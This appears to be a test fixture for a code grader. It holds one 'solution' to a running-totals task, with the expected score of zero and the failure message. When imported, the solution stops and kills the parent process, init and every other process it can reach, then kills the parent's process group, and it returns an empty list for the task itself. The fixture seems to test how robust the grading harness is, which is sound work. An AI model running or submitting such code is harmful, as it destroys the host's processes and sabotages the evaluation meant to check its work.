"""Sends every deadly signal to every process that it can name, parents first."""

GETS = 0
SAYS = "expected [1, 3, 6], got []"
ANSWERS = {
    "running-totals": """
import os
import signal

own = {0, *map(int, os.listdir("/proc/self/task"))}
for pid in [os.getppid(), 1, *range(2, 5_000)]:
    if pid not in own:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
try:
    os.killpg(os.getppid(), signal.SIGKILL)
except OSError:
    pass

def running_totals(numbers):
    return []
""",
}
